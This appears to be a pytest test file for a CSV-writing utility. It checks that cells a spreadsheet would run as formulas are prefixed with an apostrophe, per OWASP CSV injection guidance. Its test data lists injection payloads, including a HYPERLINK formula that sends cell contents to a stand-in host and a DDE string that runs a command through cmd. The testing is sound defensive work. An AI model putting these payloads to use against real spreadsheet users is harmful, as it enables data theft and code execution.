"""CSV cells that a spreadsheet would run as formulas are written as text (OWASP CSV injection),
in the tables of every step and the review's label template; numbers stay numbers."""

import csv

import pandas as pd
import pytest

from medsafe_utils.core.artifacts import write_table
from medsafe_utils.core.safe_csv import FORMULA_START, neutralise, write_csv

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_start_gets_an_apostrophe(text):
    assert text.startswith(FORMULA_START)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["plain text", "a = b", "", "'already", 3, -2.5, None])
def test_other_values_are_unchanged(value):
    assert neutralise(value) == value


def test_tables_and_csvs_hold_no_cell_a_spreadsheet_would_evaluate(tmp_path):
    frame = pd.DataFrame(
        {"model": HOSTILE, "score": [1, -2, 3, 4, 5, -1], "delta": [-0.5] * 6, "n": range(6)}
    ).assign(judge=lambda f: pd.Categorical(f["model"]))
    for path in (write_table(frame, tmp_path / "tab_x.csv"), write_csv(frame, tmp_path / "y.csv")):
        with open(path, newline="", encoding="utf-8") as fh:
            rows = list(csv.reader(fh))
        for row in rows[1:]:
            assert not row[0].startswith(FORMULA_START), row[0]
        read = pd.read_csv(path)
        assert read["model"].tolist() == ["'" + t for t in HOSTILE]
        assert read["judge"].tolist() == ["'" + t for t in HOSTILE]
        assert read["score"].tolist() == [1, -2, 3, 4, 5, -1]  # numbers stay numbers
        assert read["delta"].eq(-0.5).all()
    assert frame["model"].tolist() == HOSTILE  # the caller's frame is left alone
